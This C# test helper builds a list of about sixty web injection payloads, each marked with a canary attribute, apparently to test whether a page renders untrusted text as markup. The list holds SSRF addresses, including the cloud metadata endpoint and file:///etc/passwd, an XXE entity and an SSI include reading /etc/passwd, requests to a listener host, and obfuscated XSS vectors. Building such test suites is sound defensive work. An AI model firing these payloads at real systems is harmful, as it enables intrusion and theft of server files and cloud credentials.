using System.Globalization;

namespace AseanPlatform.Testing;

/// <summary>
/// Sixty texts that are something else where a place does not take them for words: addresses that a page would ask for, and scripts that it would run. Each ends with an
/// element of its own, so that it is found in a document even where nothing of it ran.
/// </summary>
public static class Payloads
{
    /// <summary>Of the element at the end of each.</summary>
    public const string Mark = "data-canary";

    /// <summary>What a page would do that took any of them for markup shows in one of these addresses, in window.canary, or in an element with the mark.</summary>
    /// <param name="host">Where whoever listens is; with its port.</param>
    /// <param name="port">The same machine's, for the addresses that name it otherwise.</param>
    public static IReadOnlyList<string> All(string host, int port)
    {
        var at = port.ToString(CultureInfo.InvariantCulture);
        string[] addresses =
        [
            // The machine itself and its neighbours, by all their names.
            $"http://127.0.0.1:{at}/a", $"http://localhost:{at}/b", $"http://[::1]:{at}/c", $"http://[::]:{at}/d", $"http://[::ffff:127.0.0.1]:{at}/e", $"http://2130706433:{at}/f", $"http://0x7f000001:{at}/g",
            $"http://017700000001:{at}/h", $"http://127.1:{at}/i", $"http://0.0.0.0:{at}/j", $"http://127.0.0.1.nip.io:{at}/k", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", $"view-source:http://127.0.0.1:{at}/l",
        ];
        string[] asking =
        [
            // A redirect, by each way there is.
            $"<script>location='//{host}/m'</script>", $"<meta http-equiv=refresh content=\"0;url=//{host}/n\">", $"<base href=\"//{host}/o/\">", $"<form action=//{host}/p><input autofocus onfocus=form.submit()>",
            // Styles.
            $"</style><style>@import \"//{host}/q\";</style>", $"</style><style>@font-face{{font-family:a;src:url(//{host}/r)}}*{{font-family:a}}</style>", $"</style><style>*{{background:url(//{host}/s)}}</style>",
            $"<p style=\"background:url(//{host}/t)\">", $"<link rel=stylesheet href=//{host}/u>", $"<link rel=preload as=image href=//{host}/v>", $"<link rel=preconnect href=//{host}>", $"<?xml-stylesheet type=\"text/xsl\" href=\"//{host}/w\"?>",
            // What is inside of something.
            $"<iframe src=\"data:text/html,<img src=//{host}/x>\"></iframe>", $"<iframe srcdoc=\"<img src=//{host}/y>\"></iframe>", $"<svg><foreignObject><iframe src=//{host}/z></iframe></foreignObject></svg>", $"<svg><image href=//{host}/1 /></svg>",
            $"<svg><use href=\"//{host}/2#x\"/></svg>", $"<object data=//{host}/3></object>", $"<embed src=//{host}/4>", $"<video poster=//{host}/5></video>", $"<img srcset=\"//{host}/6 2x\">",
            $"<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "<!--#include virtual=\"/etc/passwd\"-->",
            // Scripts that ask.
            $"<script>fetch('//{host}/7')</script>", $"<script>new WebSocket('ws://{host}/8')</script>", $"<script>import('//{host}/9')</script>",
        ];
        string[] running =
        [
            "</script><script>canary=1</script>", "</textarea></title><script>canary=1</script>", "\"><svg onload=canary=1>", "' autofocus onfocus='canary=1", "<img src=x onerror=canary=1>", "<details open ontoggle=canary=1>",
            "<a href=\"javascript:canary=1\">a</a>", "<svg><animate onbegin=canary=1 attributeName=x>", "<math><mtext><table><mglyph><style><img src onerror=canary=1>", "<noscript><p title=\"</noscript><img src onerror=canary=1>\">",
            "<!--><img src onerror=canary=1>-->", "]]><script>canary=1</script>", "{{constructor.constructor('canary=1')()}}", "${canary=1}", "&lt;script&gt;canary=1&lt;/script&gt;", "\\u003cscript\\u003ecanary=1\\u003c/script\\u003e",
            "%3Cscript%3Ecanary=1%3C/script%3E", "＜script＞canary=1＜/script＞", "+ADw-script+AD4-canary=1+ADw-/script+AD4-", "<input onfocus=canary=1 autofocus>",
        ];
        return [.. addresses.Select(address => $"<img src=\"{address}\">").Concat(asking).Concat(running).Select(text => $"{text}<b {Mark}>")];
    }
}
